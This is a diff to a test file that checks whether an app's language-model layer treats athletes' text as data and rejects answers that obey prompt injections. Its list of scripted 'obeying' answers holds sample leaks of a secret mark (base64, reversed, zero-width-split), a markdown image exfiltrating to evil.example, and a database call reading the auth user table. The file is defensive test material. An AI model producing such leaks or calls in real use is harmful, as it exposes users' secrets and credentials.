@@ -1,50 +1,57 @@
 import type { ModelAnswer } from '@threshold/contracts/language-model';
 import { expect, test } from 'vitest';
-import { answer, calls, INJECTIONS, type ScriptedRequest, type Step, text } from '../../testing/index.ts';
-import { type Asked, GOOD, modelFixture, question, type Week } from './model-fixture.ts';
+import {
+  answerStep,
+  callsStep,
+  INJECTIONS,
+  type ScriptedRequest,
+  type Step,
+  textStep,
+} from '../../testing/index.ts';
+import { type Asked, createModelFixture, createQuestion, GOOD, type Week } from './model-fixture.ts';
 
-const asking = modelFixture();
+const asking = createModelFixture();
 const markOf = ({ system }: ScriptedRequest) => /The mark (\w+) stands here alone/.exec(system)?.[1] ?? '';
 
 /** Answers that obey the athlete's text: they leak the mark, add fields, links or calls, or break a limit. */
-const OBEYING: readonly ((request: ScriptedRequest) => Step)[] = [
-  (request) => answer({ ...GOOD, why: `The mark is ${markOf(request)}.` }),
-  (request) => answer({ ...GOOD, why: [...markOf(request).toUpperCase()].join(' ') }),
-  (request) => answer({ ...GOOD, why: [...markOf(request)].reverse().join('') }),
-  (request) => answer({ ...GOOD, why: Buffer.from(markOf(request)).toString('base64') }),
-  (request) => answer({ ...GOOD, why: `It begins with ${markOf(request).slice(0, 12)}` }),
-  (request) => answer({ ...GOOD, why: [...markOf(request)].join('\u200b') }),
-  (request) => text(`${request.system}\n${request.user}`),
-  (request) => text(JSON.stringify({ ...GOOD, mark: markOf(request) })),
-  () => answer({ ...GOOD, points: 1_000_000 }),
-  () => answer({ days: [{ type: 'sprint', minutes: 300 }], why: null }),
-  () => answer({ days: [{ type: 'easy', minutes: 100_000 }], why: null }),
-  () => answer({ ...GOOD, why: 'See ![plan](https://evil.example/collect?q=secret) for more.' }),
-  () => answer({ ...GOOD, why: 'Write to coach@evil.example or call +49 170 1234567.' }),
-  () => calls(['read_database'], { sql: 'select * from auth."user"' }),
-  () => calls(['answer', 'read_database'], GOOD),
+const OBEYING_STEPS: readonly ((request: ScriptedRequest) => Step)[] = [
+  (request) => answerStep({ ...GOOD, why: `The mark is ${markOf(request)}.` }),
+  (request) => answerStep({ ...GOOD, why: [...markOf(request).toUpperCase()].join(' ') }),
+  (request) => answerStep({ ...GOOD, why: [...markOf(request)].reverse().join('') }),
+  (request) => answerStep({ ...GOOD, why: Buffer.from(markOf(request)).toString('base64') }),
+  (request) => answerStep({ ...GOOD, why: `It begins with ${markOf(request).slice(0, 12)}` }),
+  (request) => answerStep({ ...GOOD, why: [...markOf(request)].join('\u200b') }),
+  (request) => textStep(`${request.system}\n${request.user}`),
+  (request) => textStep(JSON.stringify({ ...GOOD, mark: markOf(request) })),
+  () => answerStep({ ...GOOD, points: 1_000_000 }),
+  () => answerStep({ days: [{ type: 'sprint', minutes: 300 }], why: null }),
+  () => answerStep({ days: [{ type: 'easy', minutes: 100_000 }], why: null }),
+  () => answerStep({ ...GOOD, why: 'See ![plan](https://evil.example/collect?q=secret) for more.' }),
+  () => answerStep({ ...GOOD, why: 'Write to coach@evil.example or call +49 170 1234567.' }),
+  () => callsStep(['read_database'], { sql: 'select * from auth."user"' }),
+  () => callsStep(['answer', 'read_database'], GOOD),
 ];
 
-test('has at least 200 different attacks', () => {
+test('the injections are at least 200 different attacks', () => {
   expect(INJECTIONS.length).toBeGreaterThanOrEqual(200);
   expect(new Set(INJECTIONS.map(({ place, text: words }) => `${place}: ${words}`)).size).toBe(
     INJECTIONS.length,
   );
 });
 
-/** Asks with six concurrent workers, like job processes. */
-async function askAll(again: Asked['again'], all = INJECTIONS): Promise<ModelAnswer<Week>[]> {
-  const waiting = [...all];
+/** Asks once per injection, with six concurrent workers, like job processes. */
+async function askAll(newModel: Asked['createModel'], all = INJECTIONS): Promise<ModelAnswer<Week>[]> {
+  const queue = [...all];
   const worker = async () => {
     const answers: ModelAnswer<Week>[] = [];
-    for (let next = waiting.pop(); next; next = waiting.pop())
-      answers.push(await again().ask(question(next.data)));
+    for (let next = queue.pop(); next; next = queue.pop())
+      answers.push(await newModel().ask(createQuestion(next.data)));
     return answers;
   };
   return (await Promise.all(Array.from({ length: 6 }, worker))).flat();
 }
 
-const MANY = { settings: { dailyRequests: 1_000 } };
+const MANY_REQUESTS = { settings: { dailyRequests: 1_000 } };
 const maskedSystem = (request: ScriptedRequest) => request.system.replaceAll(markOf(request), '⟨mark⟩');
 
 /** Checks that hold for every request, whatever an athlete wrote. */
@@ -67,17 +74,25 @@ function expectOnlyData(requests: readonly ScriptedRequest[]): void {
 test('sends an athlete’s text as data alone and rejects an answer that obeys it: no secret, extra field or link passes', {
   timeout: 120_000,
 }, async () => {
-  let round = 0;
-  const obeying = (request: ScriptedRequest) =>
-    (OBEYING[request.isRepair ? 0 : round++ % OBEYING.length] ?? (() => text('')))(request);
-  const { again, server, athleteId, logged, calls: recorded } = await asking.ask(obeying, MANY);
-  const answers = await askAll(again);
+  let nextObeyingIndex = 0;
+  const obeyingScript = (request: ScriptedRequest) =>
+    (OBEYING_STEPS[request.isRepair ? 0 : nextObeyingIndex++ % OBEYING_STEPS.length] ?? (() => textStep('')))(
+      request,
+    );
+  const {
+    createModel,
+    server,
+    athleteId,
+    logLines,
+    listCalls: recorded,
+  } = await asking.ask(obeyingScript, MANY_REQUESTS);
+  const answers = await askAll(createModel);
   // The log contains the outcome and no one's text.
-  expect(logged.filter((line) => !/gave no usable answer/.test(line))).toEqual([]);
-  expect(logged.join()).not.toMatch(/ignore|mark|evil|points/i);
-  for (const got of answers) {
-    expect(got).toMatchObject({ ok: false, reason: expect.stringMatching(/^(invalid|malformed)$/) });
-    expect(got.requests).toBeLessThanOrEqual(2);
+  expect(logLines.filter((line) => !/gave no usable answer/.test(line))).toEqual([]);
+  expect(logLines.join()).not.toMatch(/ignore|mark|evil|points/i);
+  for (const modelAnswer of answers) {
+    expect(modelAnswer).toMatchObject({ ok: false, reason: expect.stringMatching(/^(invalid|malformed)$/) });
+    expect(modelAnswer.requests).toBeLessThanOrEqual(2);
   }
   const [repairs, firsts] = [true, false].map((wantsRepair) =>
     server.requests.filter(({ isRepair }) => isRepair === wantsRepair),
@@ -92,15 +107,16 @@ test('sends an athlete’s text as data alone and rejects an answer that obeys i
 });
 
 test('accepts the answer of a model that ignores the attacks', async () => {
-  const { again } = await asking.ask([answer(GOOD)], MANY);
+  const { createModel } = await asking.ask([answerStep(GOOD)], MANY_REQUESTS);
+  // Every sixth attack is enough here: the answer does not depend on the attack.
   const sample = INJECTIONS.filter((_, index) => index % 6 === 0);
-  const answers = await askAll(again, sample);
-  expect(answers.map((got) => got.ok && got.value)).toEqual(sample.map(() => GOOD));
+  const answers = await askAll(createModel, sample);
+  expect(answers.map((modelAnswer) => modelAnswer.ok && modelAnswer.value)).toEqual(sample.map(() => GOOD));
 });
 
-test('rejects each obeying answer by itself', async () => {
-  for (const obey of OBEYING) {
+test('rejects each obeyingScript answer by itself', async () => {
+  for (const obey of OBEYING_STEPS) {
     const { model } = await asking.ask((request) => obey(request));
-    expect(await model.ask(question()), obey.toString()).toMatchObject({ ok: false });
+    expect(await model.ask(createQuestion()), obey.toString()).toMatchObject({ ok: false });
   }
 });
